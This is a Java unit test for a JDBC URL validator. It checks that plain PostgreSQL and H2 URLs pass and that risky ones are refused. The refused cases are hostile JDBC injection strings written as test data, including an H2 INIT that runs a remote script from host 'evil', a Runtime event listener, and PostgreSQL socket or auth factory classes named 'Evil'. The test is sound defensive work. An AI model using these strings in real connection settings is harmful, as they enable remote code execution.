package fr.educonnect.userstorage.config;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcUrlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/school",
                "jdbc:postgresql://db1:5432,db2:5432/school?targetServerType=primary&sslmode=verify-full",
                "jdbc:postgresql://[::1]:5432/postgres",
                "jdbc:h2:file:/data/school;AUTO_SERVER=TRUE",
                "jdbc:h2:file:./data/h2/school;IFEXISTS=TRUE",
                "jdbc:h2:mem:school;DB_CLOSE_DELAY=-1"
            })
    void aUrlThatOnlyNamesABaseIsTaken(String url) {
        assertThat(JdbcUrl.problem(url)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;\\INIT=SELECT 1",
                "jdbc:h2:mem:x;init=SELECT 1",
                "jdbc:h2:file:/data/x;MODE=MySQL;DATABASE_EVENT_LISTENER='java.lang.Runtime'",
                "jdbc:h2:tcp://evil/x",
                "jdbc:h2:ssl:evil/x",
                "jdbc:h2:zip:/data/x.zip!/x",
                "jdbc:postgresql://db/x?socketFactory=org.example.Evil&socketFactoryArg=http://evil",
                "jdbc:postgresql://db/x?sslfactory=org.example.Evil",
                "jdbc:postgresql://db/x?authenticationPluginClassName=org.example.Evil",
                "jdbc:postgresql:x",
                "jdbc:mysql://db/x"
            })
    void aUrlThatCouldRunCodeIsRefused(String url) {
        assertThat(JdbcUrl.problem(url)).isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:postgresql://db/x?password=hunter2", "jdbc:h2:file:/data/x;PASSWORD=hunter2"})
    void aPasswordHasItsOwnField(String url) {
        assertThat(JdbcUrl.problem(url)).get().asString().contains("own fields").doesNotContain("hunter2");
    }
}
